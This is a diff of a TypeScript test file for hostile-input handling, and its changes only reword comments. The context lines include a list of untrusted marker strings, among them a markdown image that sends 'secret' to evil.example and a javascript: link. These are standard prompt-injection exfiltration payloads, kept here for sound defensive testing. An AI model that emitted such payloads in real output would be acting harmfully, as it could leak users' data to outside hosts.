@@ -7,8 +7,8 @@ import { createTestTool } from "../hostile-input/test-tools.ts";
 import { type Path, pathsOf, valueAt, withTextAt } from "./mutations.ts";
 import { type RecordedCall, type Recording, record, recordedCalls, replay } from "./recording.ts";
 
-// Names, messages, subjects and attributes are untrusted. Whatever they mean to a model, a terminal or a template, a result
-// contains them unchanged as JSON, and no tool acts on them.
+// Names, messages, subjects and attributes are untrusted. Whatever they mean to a model, a terminal or a template, a
+// result contains them unchanged as JSON, and tools never act on them.
 
 /** Untrusted strings; the word "marked" identifies them in results. */
 const MARKERS = [
@@ -22,7 +22,7 @@ const MARKERS = [
   "\u0000marked\u0085\u2028\ud83d",
   "![marked](https://evil.example/?q=secret) [approve](javascript:0)",
 ];
-/** Fields that name the kind of a record, or the length of its periods. */
+/** Fields that name a record's kind, or the length of its periods. */
 const KINDS: ReadonlySet<string | number> = new Set(["type", "res"]);
 const sandbox = createFaultSandbox();
 /** The recorded calls of all tools, each with a title. */
